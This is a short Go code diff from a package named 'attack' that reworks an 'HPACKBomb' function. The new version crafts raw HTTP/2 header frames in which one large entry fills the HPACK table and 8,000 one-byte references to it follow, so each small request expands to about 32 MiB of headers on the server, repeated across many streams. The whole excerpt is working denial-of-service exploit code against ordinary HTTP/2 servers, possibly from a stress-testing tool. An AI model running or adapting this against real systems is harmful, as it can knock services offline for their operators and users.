@@ -1,6 +1,7 @@
 package attack
 
 import (
+	"bytes"
 	"context"
 	"fmt"
 	"math"
@@ -120,13 +121,14 @@ func EmptyFrames(ctx context.Context, t Target) (Stats, error) {
 // 8,000 times with one byte each, on stream after stream: 32 MiB of header in
 // 8 KB. Unit: a request; default 50.
 func HPACKBomb(ctx context.Context, t Target) (Stats, error) {
+	// The entry fills the table, so it is the newest and the only one: index 62.
 	bomb := hpack.HeaderField{Name: "x-bomb", Value: strings.Repeat("!", 4096-32-len("x-bomb"))}
-	return t.flood(ctx, 50, func(h *h2, i int) error {
-		fields := make([]hpack.HeaderField, 8_000)
-		for i := range fields {
-			fields[i] = bomb
-		}
-		_, err := h.open("GET", true, fields...)
-		return err
+	fuses := bytes.Repeat([]byte{0x80 | 62}, 8_000)
+	return t.flood(ctx, 50, func(h *h2, _ int) error {
+		id := h.stream
+		h.stream += 2
+		return h.framer.WriteHeaders(http2.HeadersFrameParam{
+			StreamID: id, BlockFragment: append(h.head("GET", bomb), fuses...), EndStream: true, EndHeaders: true,
+		})
 	})
 }
